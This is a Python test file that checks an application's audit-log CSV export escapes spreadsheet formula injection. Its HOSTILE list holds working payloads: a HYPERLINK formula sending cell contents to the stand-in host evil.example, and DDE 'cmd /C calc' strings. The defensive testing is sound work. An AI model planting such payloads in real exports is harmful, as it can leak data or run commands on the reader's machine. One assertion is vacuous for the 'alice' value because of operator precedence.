"""`audit export --format csv` with hostile usernames, targets and details: text, not formulas."""

import csv
import io
from typing import Any

from sqlalchemy import Engine
from sqlalchemy.orm import Session

from wardapp.aimstore import audit
from wardapp.core.periods import uk_today

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "alice\r\n=1+1",  # a line break inside a cell must not start a new row
]


def test_hostile_text_in_every_column_reaches_the_reader_as_text(cli: Any, engine: Engine) -> None:
    with Session(engine) as session, session.begin():
        for text in HOSTILE:
            audit.record(
                session,
                "sign_in_failed",
                actor_name=text,
                target=text,
                detail={"typed": text},
                client=text,
            )
    code, out, err = cli("audit", "export", "--since", uk_today().isoformat())
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert len(rows) == len(HOSTILE)  # no row was split by a carriage return
    for row, text in zip(rows, HOSTILE, strict=True):
        for column in ("actor", "target", "client"):
            assert row[column] == "'" + text if text[0] in "=+-@\t\r" else text, column
        assert row["detail"].startswith("{")
        assert row["id"].isdigit() and row["event"] == "sign_in_failed"
